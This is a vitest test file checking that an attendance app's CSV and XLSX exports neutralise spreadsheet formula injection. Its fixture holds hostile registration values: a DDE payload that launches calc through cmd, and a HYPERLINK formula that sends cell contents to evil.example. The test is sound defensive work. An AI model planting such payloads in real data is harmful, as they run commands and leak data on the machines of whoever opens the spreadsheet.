import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { Attendees } from '../../main/core/attendees/attendees';
import { exportDesk } from './export-fixture';

/** Names and organisations a hostile or careless registration form lets through. */
const hostile = [
  { lastName: '=cmd|\' /C calc\'!A0', firstName: '+33 6 12', function: '-2+3', organisation: '@SUM(1+1)*cmd|\' /C calc\'!A0', country: '\t=1', category: '\r=1' },
  { lastName: '=HYPERLINK("http://evil.example/?"&A1,"Clic")', firstName: '@Jo', function: 'Maire', organisation: '  =1+1', country: 'France', category: '-' },
];

describe('formula injection', () => {
  it('neutralises every cell starting with =, +, -, @, tab or CR, in the CSV and in every XLSX sheet', async () => {
    const d = await exportDesk();
    const attendees = new Attendees(d.db);
    for (const fields of hostile) attendees.insert({ eventId: d.eventId, ...fields, sessions: ['atelier-climat'] });
    const dangerous = /^[ ]*[=+\-@\t\r]/;
    // What the database holds (the repository may tidy spaces): every dangerous value must come out quoted.
    const stored = (
      d.db.prepare("SELECT last_name, first_name, function, organisation, country, category FROM attendees WHERE last_name LIKE '=%'").raw().all() as string[][]
    ).flat().filter((value) => dangerous.test(value));
    expect(stored.length).toBeGreaterThanOrEqual(8);

    for (const separator of [',', ';'] as const) {
      const csv = await d.call('export:attendance', { format: 'csv', separator });
      const cells = (parse(Buffer.from(csv.data), { bom: true, delimiter: separator }) as string[][]).flat();
      expect(cells.filter((cell) => dangerous.test(cell))).toEqual([]);
      for (const value of stored) expect(cells).toContain(`'${value}`);
    }

    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from((await d.call('export:attendance', { format: 'xlsx' })).data) as unknown as ArrayBuffer);
    const texts: string[] = [];
    for (const sheet of book.worksheets) {
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === 'string') texts.push(cell.value);
        }),
      );
    }
    expect(texts.filter((text) => dangerous.test(text))).toEqual([]);
    // XML parsers turn a carriage return into a line feed (XML 1.0, end-of-line handling): the quote stays in front.
    for (const value of stored) expect(texts).toContain(`'${value.replace(/\r/g, '\n')}`);
  });
});
